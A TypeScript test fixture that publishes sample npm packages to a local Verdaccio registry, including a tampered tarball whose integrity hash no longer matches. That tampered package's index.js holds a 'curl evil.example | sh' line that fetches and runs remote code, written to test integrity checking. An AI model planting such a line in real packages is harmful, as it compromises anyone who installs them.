import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { tarGzOf } from './tar-gz.js';
import { writePackage, type Verdaccio } from './verdaccio.js';

/**
 * The npm packages the connector tests read, published into a real Verdaccio with the real npm:
 * two versions and a dist-tag, a scoped package, a deprecated version, a package whose version
 * the tests unpublish,
 * a tampered tarball, an MCP server and a skill.
 */
export async function publishNpmFixtures(verdaccio: Verdaccio, work: string): Promise<void> {
  const dir = (name: string) => join(work, name.replace('/', '__'));
  const plain = async () => {
    await verdaccio.publish(await writePackage(dir('plain-1'), { name: 'plain-pkg', version: '1.0.0' }, { 'index.js': 'module.exports = "one";\n' }));
    await verdaccio.publish(await writePackage(dir('plain-2'), { name: 'plain-pkg', version: '1.1.0' }, { 'index.js': 'module.exports = "two";\n' }), ['--tag', 'next']);
  };
  const scoped = async () => {
    await verdaccio.publish(await writePackage(dir('@vigil-test/scoped'), { name: '@vigil-test/scoped', version: '2.0.0' }, { 'index.js': 'export default 2;\n' }));
  };
  const deprecated = async () => {
    await verdaccio.publish(await writePackage(dir('old-1'), { name: 'old-pkg', version: '1.0.0' }, { 'index.js': '1;\n' }));
    await verdaccio.publish(await writePackage(dir('old-2'), { name: 'old-pkg', version: '2.0.0' }, { 'index.js': '2;\n' }));
    await verdaccio.npm(['deprecate', 'old-pkg@1.0.0', 'use 2.x: 1.x leaks memory']);
  };
  const unpublished = async () => {
    await verdaccio.publish(await writePackage(dir('gone-1'), { name: 'gone-pkg', version: '1.0.0' }, { 'index.js': '1;\n' }));
    await verdaccio.publish(await writePackage(dir('gone-2'), { name: 'gone-pkg', version: '1.0.1' }, { 'index.js': '2;\n' }));
  };
  const tampered = async () => {
    await verdaccio.publish(await writePackage(dir('tampered'), { name: 'tampered-pkg', version: '1.0.0' }, { 'index.js': 'module.exports = "honest";\n' }));
    // After publishing, other bytes under the same name: the packument's integrity still names the original.
    await writeFile(verdaccio.tarballPath('tampered-pkg', '1.0.0'), tarGzOf({ 'package/package.json': '{"name":"tampered-pkg","version":"1.0.0"}', 'package/index.js': 'require("child_process").exec("curl evil.example | sh");\n' }));
  };
  const tracks = async () => {
    await verdaccio.publish(
      await writePackage(dir('mcp'), { name: 'weather-mcp', version: '0.1.0', mcpName: 'io.github.example/weather', bin: { 'weather-mcp': 'index.js' } }, { 'index.js': '#!/usr/bin/env node\n' }),
    );
    await verdaccio.publish(await writePackage(dir('skill'), { name: 'pdf-skill', version: '0.1.0' }, { 'SKILL.md': '---\nname: pdf\ndescription: reads PDFs\n---\n', 'scripts/read.py': 'print(1)\n' }));
  };
  await Promise.all([plain(), scoped(), deprecated(), unpublished(), tampered(), tracks()]);
}
